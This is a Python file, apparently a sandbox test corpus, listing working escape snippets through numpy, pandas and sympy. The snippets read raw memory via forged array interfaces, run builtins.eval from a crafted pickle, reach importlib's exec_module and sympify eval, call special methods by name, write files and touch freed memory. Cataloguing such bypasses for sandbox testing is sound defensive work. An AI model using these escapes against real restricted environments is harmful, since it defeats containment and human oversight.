"""Ways through numpy, pandas and sympy that were found by attack. Each returns what it reached, where nothing stops it."""

_INTERFACE = "{'data': (id(None), False), 'shape': (8,), 'typestr': '|u1', 'version': 3}"

PACKAGE_ESCAPES = {
    "an interface by __getattr__": f"""
import numpy as np
class A:
    def __getattr__(self, name):
        if name == "__array_interface__": return {_INTERFACE}
        raise AttributeError(name)
def f(): return [int(b) for b in np.asarray(A())]""",
    "an interface in a namespace": f"""
import numpy as np
import types
def f():
    return [int(b) for b in np.asarray(types.SimpleNamespace(**{{"__array_interface__": {_INTERFACE}}}))]""",
    "an interface in a series": f"""
import numpy as np
import pandas as pd
class D(pd.DataFrame):
    def __getitem__(self, key):
        return {_INTERFACE} if key == "__array_interface__" else super().__getitem__(key)
def f(): return [int(b) for b in np.asarray(D({{"__array_interface__": [1]}}))]""",
    "an interface of a metaclass's class": f"""
import numpy as np
import sympy
def f():
    X = sympy.FunctionClass("X", (sympy.Function,), {{"__array_interface__": {_INTERFACE}}})
    return [int(b) for b in np.asarray(X(1))]""",
    "an interface of a ring": f"""
import numpy as np
import sympy
def f():
    R = sympy.ring("__array_interface__", sympy.ZZ)[0]
    g = R.gens[0]
    g.clear()
    for key, value in {_INTERFACE}.items(): g[key] = value
    return [int(b) for b in np.asarray(R)]""",
    "an attribute of an undefined function": """
import sympy
def f(): return sympy.Function("F", bases=(sympy.Function,), __dict__={"a": 1}).a""",
    "a name of sympy's that is written into the globals": """
import sympy
def f():
    sympy.var("x")
    return str(x)""",
    "a handler by its name": """
import sympy
class E(sympy.Symbol):
    def get_code(self, name): return "result = 1"
E.__name__ = "exec_module"
class B(sympy.Symbol): kind = sympy.true.kind
def f():
    b = B("b")
    b.__name__ = "x"
    sympy.ask(sympy.Predicate("pp", handlers=["importlib._bootstrap_external.SourceLoader"])(E("e")), b)
    return b.result""",
    "local names that lie": """
import sympy
asked = []
class D(dict):
    def __contains__(self, key):
        asked.append(key)
        return key == "eval"
    def __getitem__(self, key):
        asked.append(key)
        if len(asked) > 3: raise KeyError(key)
        return 1
def f(): return str(sympy.sympify("eval('1 + 1')", locals=D(a=1)))""",
    "a special method by its name": """
import pandas as pd
def f(): return str(pd.Series([1, 2]).agg("__reduce_ex__", 0, 2))""",
    "a special method by its name for groups": """
import pandas as pd
def f(): return str(pd.DataFrame({"a": [1], "b": [2]}).groupby("a").agg("__len__"))""",
    "a special method by its name in a list": """
import pandas as pd
def f(): return str(pd.DataFrame({"a": [1, 2]}).agg({"a": ["__len__"]}))""",
    "a writer by its name": """
import pandas as pd
def f(): return pd.Series([1]).agg("to_json")""",
    "a pickle by a function's name": """
import io
import pandas as pd
class S(pd.Series):
    def read(self, n=-1): return data.read(n)
    def readline(self): return data.readline()
    def seek(self, *a): return data.seek(*a)
    def tell(self): return data.tell()
data = io.BytesIO(b"cbuiltins\\neval\\n(V1 + 1\\ntR.")
def f(): return str(S([1]).agg("load", 0, None, True))""",
    "an archive": """
import io
import pandas as pd
def f():
    to = io.BytesIO()
    pd.DataFrame({"a": [1]}).to_csv(to, compression={"method": "tar", "archive_name": "x"})
    to.seek(0)
    return str(pd.read_csv(to, compression="tar", iterator=True).handles.created_handles[1].buffer)""",
    "text written to a device": """
import pandas as pd
def f():
    pd.DataFrame({"a": [1]}).to_string("/dev/null")
    return 1""",
    "a page written to a device": """
import pandas as pd
def f():
    pd.DataFrame({"a": [1]}).to_html("/dev/null")
    return 1""",
    "a series written to a device": """
import pandas as pd
def f():
    pd.Series([1]).to_string("/dev/null")
    return 1""",
    "a view of freed memory": """
import numpy as np
def f():
    a = np.zeros(64)
    view = a[:]
    a.resize(1, refcheck=False)
    return view.shape""",
    "a generator's state": """
import numpy as np
def f():
    state = np.random.RandomState(1)
    kind, keys, *_ = state.get_state()
    state.set_state((kind, keys, 625))
    return 1""",
}  # fmt: skip
